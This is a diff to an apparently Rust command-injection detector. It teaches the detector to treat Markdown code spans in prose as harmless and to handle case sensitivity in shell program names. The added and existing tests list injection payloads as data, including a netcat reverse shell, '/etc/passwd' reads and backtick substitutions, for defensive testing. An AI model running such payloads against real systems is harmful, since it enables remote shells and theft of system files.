@@ -134,8 +134,9 @@ fn ends_word(b: u8) -> bool {
 }
 
 /// Reads a program name at `i` (quotes and backslashes inside it are removed by the
-/// shell: `w'h'oami`, `c\at`). Returns (is a program, end).
-fn program_at(v: &[u8], mut i: usize) -> (bool, usize) {
+/// shell: `w'h'oami`, `c\at`). Returns (is a program, end). `fold_case`: Windows' `cmd`
+/// finds `WHOAMI` too; a POSIX shell runs `head`, never `HEAD` (git's, in prose).
+fn program_at(v: &[u8], mut i: usize, fold_case: bool) -> (bool, usize) {
     let mut name = [0u8; 24];
     let mut len = 0;
     let start = i;
@@ -148,7 +149,7 @@ fn program_at(v: &[u8], mut i: usize) -> (bool, usize) {
         if ends_word(b) {
             break;
         }
-        name[len] = b.to_ascii_lowercase();
+        name[len] = if fold_case { b.to_ascii_lowercase() } else { b };
         len += 1;
         i += 1;
     }
@@ -191,7 +192,7 @@ fn after_operators(v: &[u8]) -> bool {
         while j < v.len() && (is_blank(v[j]) || matches!(v[j], b'|' | b'&' | b'{' | b'(' | b'!')) {
             j += 1;
         }
-        let (program, end) = program_at(v, j);
+        let (program, end) = program_at(v, j, true);
         if program && looks_like_command_line(v, end) {
             return true;
         }
@@ -202,9 +203,15 @@ fn after_operators(v: &[u8]) -> bool {
 
 /// `$(cmd)` and `` `cmd` ``.
 fn in_substitution(v: &[u8]) -> bool {
+    let letters = Letters::of(v);
     let mut i = 0;
     while i < v.len() {
         let start = match v[i] {
+            b'`' if code_span_in_prose(v, i, &letters) => {
+                // Skip the whole span: its closing backtick opens nothing.
+                i = memchr::memchr(b'`', &v[i + 1..]).map_or(v.len(), |p| i + p + 2);
+                continue;
+            }
             b'`' => i + 1,
             b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) != Some(&b'(') => i + 2,
             _ => {
@@ -216,13 +223,57 @@ fn in_substitution(v: &[u8]) -> bool {
         while j < v.len() && is_blank(v[j]) {
             j += 1;
         }
-        let (program, end) = program_at(v, j);
+        // Substitutions are POSIX shell syntax: names are case-sensitive.
+        let (program, end) = program_at(v, j, false);
         if program && (matches!(v.get(end), Some(b'`' | b')')) || looks_like_command_line(v, end)) {
             return true;
         }
         i = start.max(j);
     }
     false
+}
+
+/// Where the words of a value are, found once per value so that judging each backtick
+/// stays constant-time: where the first two-letter word ends and where the last letter is.
+struct Letters {
+    first_word_end: Option<usize>,
+    last_letter: Option<usize>,
+}
+
+impl Letters {
+    fn of(v: &[u8]) -> Letters {
+        Letters {
+            first_word_end: v
+                .windows(2)
+                .position(|w| w[0].is_ascii_alphabetic() && w[1].is_ascii_alphabetic())
+                .map(|p| p + 1),
+            last_letter: v.iter().rposition(u8::is_ascii_alphabetic),
+        }
+    }
+}
+
+/// Is the backtick at `open` a Markdown code span inside a sentence (``like `cat`):``,
+/// ``Display help for `ls`.``)? Text both before and after it, the span set off by a
+/// space or an opening bracket, and the sentence going on after it. A payload
+/// is the substitution itself, glued to data or an operator (`` `id` ``, ``x`id` ``,
+/// ``; `whoami` ``).
+fn code_span_in_prose(v: &[u8], open: usize, letters: &Letters) -> bool {
+    let Some(len) = memchr::memchr(b'`', &v[open + 1..]) else {
+        return false;
+    };
+    let close = open + 1 + len;
+    let before = &v[..open];
+    let set_off = before.last().is_some_and(|&b| matches!(b, b' ' | b'(' | b'"'));
+    let words_before = letters.first_word_end.is_some_and(|end| end < open);
+    // Punctuation of a sentence or a parenthetical right after it, or more words.
+    let goes_on = match v.get(close + 1) {
+        Some(b')' | b':' | b',' | b'.' | b'"') => true,
+        Some(b' ') => letters.last_letter.is_some_and(|last| last > close),
+        _ => false,
+    };
+    // Each run of spaces is read for the one backtick that follows it: linear in all.
+    let operator_before = before.iter().rev().find(|&&b| b != b' ').is_some_and(|&b| matches!(b, b';' | b'|' | b'&'));
+    set_off && words_before && goes_on && !operator_before
 }
 
 /// `cat${IFS}/etc/passwd`, `$IFS$9`.
@@ -252,6 +303,10 @@ mod tests {
             "; nc -e /bin/sh 10.0.0.1 4444",
             "cat${IFS}/etc/passwd",
             "& ping -n 10 127.0.0.1 &",
+            "name`id`",
+            "x `id`",
+            "; `whoami` now",
+            "`cat /etc/passwd` please",
         ] {
             assert!(find(v.as_bytes()).is_some(), "missed {v:?}");
         }
@@ -267,6 +322,11 @@ mod tests {
             "rock | roll",
             "R&D department",
             "$(5) off",
+            "Display a file's content from an archive to `stdout` (like `cat`):",
+            "Execute the `ls` program literally, even if an `ls` alias exists:",
+            "View logs and follow new output (like `tail --follow`):",
+            "Inspect colorized output from another command (e.g., `ls`), then quit",
+            "Reset a file to `HEAD`",
         ] {
             assert!(find(v.as_bytes()).is_none(), "flagged {v:?}");
         }
